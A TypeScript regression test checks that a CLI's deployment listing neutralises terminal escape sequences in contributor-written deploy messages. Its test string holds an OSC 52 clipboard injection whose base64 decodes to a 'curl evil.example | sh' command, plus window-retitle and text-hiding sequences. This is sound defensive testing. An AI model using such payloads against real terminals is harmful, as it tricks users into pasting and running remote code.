// Text another party chose reaches the CLI user's terminal through the master's answers: a deploy
// message (a commit subject a contributor wrote, passed on by CI) is shown by `sprout deployments`
// to everyone who works on the site. Written raw, an escape sequence in it drove their terminal:
// OSC 52 writes the clipboard (a command to paste), OSC 0 retitles the window, CSI hides or
// rewrites what was printed. The CLI now shows each control character as U+FFFD.
import { beforeAll, expect, test } from "bun:test";
import { type Cluster, site, useCluster } from "../helpers/cluster";

const cl = useCluster({ agents: 1 });
let c: Cluster;
beforeAll(() => {
  c = cl();
});

const hostile = "Fix typo\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g=\x07\x1b]0;owned\x07\x1b[8m hidden\rDone";

test("a deploy message's escape sequences are not written to the terminal of who lists deployments", async () => {
  expect((await c.sprout(["deploy", site({ "index.html": "hi" }), "--site", "msgs", "--prod", "--message", hostile])).code).toBe(0);
  const list = await c.sprout(["deployments", "--site", "msgs"]);
  expect(list.code).toBe(0);
  expect(list.stdout).toContain("Fix typo");
  expect(list.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  // --json too: `jq -r` would turn an escaped \u001b back into the byte.
  const json = await c.sprout(["deployments", "--site", "msgs", "--json"]);
  expect(JSON.parse(json.stdout)[0].message).toBe("Fix typo\ufffd]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g=\ufffd\ufffd]0;owned\ufffd\ufffd[8m hidden\ufffdDone");
});
